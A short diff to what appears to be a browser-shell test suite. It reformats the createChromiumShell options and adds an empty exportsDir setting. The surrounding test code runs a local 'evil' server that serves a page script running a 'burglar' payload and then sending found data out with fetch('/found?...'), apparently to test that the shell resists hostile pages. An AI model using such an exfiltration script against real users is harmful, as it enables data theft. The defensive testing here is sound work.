@@ -165,7 +165,14 @@ describe.skipIf(!browser)('a page in the window (skipped without a browser)', ()
       response.end(`<!doctype html><script>${burglar}; fetch('/found?' + found.join())</script>`)
     })
     await new Promise<void>((resolve) => evil.listen(port, '127.0.0.1', resolve))
-    shell = createChromiumShell({ browser, random: randomBytes, headless: true, debugPort, screen: null })
+    shell = createChromiumShell({
+      browser,
+      random: randomBytes,
+      headless: true,
+      debugPort,
+      screen: null,
+      exportsDir: '',
+    })
     await shell.open({
       invoke: async (channel) => {
         calls.push(channel)
